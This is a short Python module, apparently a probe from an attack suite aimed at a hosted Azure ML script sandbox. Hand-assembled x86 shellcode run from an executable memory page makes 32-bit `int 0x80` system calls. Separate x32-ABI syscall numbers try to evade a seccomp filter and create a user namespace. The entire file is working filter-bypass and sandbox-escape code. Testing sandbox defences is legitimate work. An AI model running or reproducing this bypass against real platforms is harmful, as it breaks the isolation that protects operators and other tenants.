"""Makes system calls as 32-bit programs do, whose numbers are others than those that a filter may know."""

import ctypes
import mmap
import os
import platform

from attack import LIBC, attack, every, forked

NEW_USER = 0x10000000


def by_interrupt():
    # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; with rbx kept
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return function()


def by_other_numbers():
    return 0 if LIBC.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_ulong(NEW_USER)) == 0 else -1


def in_a_child(way):
    ours, its = os.pipe()
    pid = forked(lambda: os.write(its, b"%d" % way()))
    _, status = os.waitpid(pid, 0)
    os.close(its)
    said = os.read(ours, 20)
    if said == b"0":
        return f"made a namespace {way.__name__}"
    raise PermissionError(f"{way.__name__}: {said} {status}")


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    if platform.machine() != "x86_64":
        return ""
    return every(in_a_child, [by_interrupt, by_other_numbers])
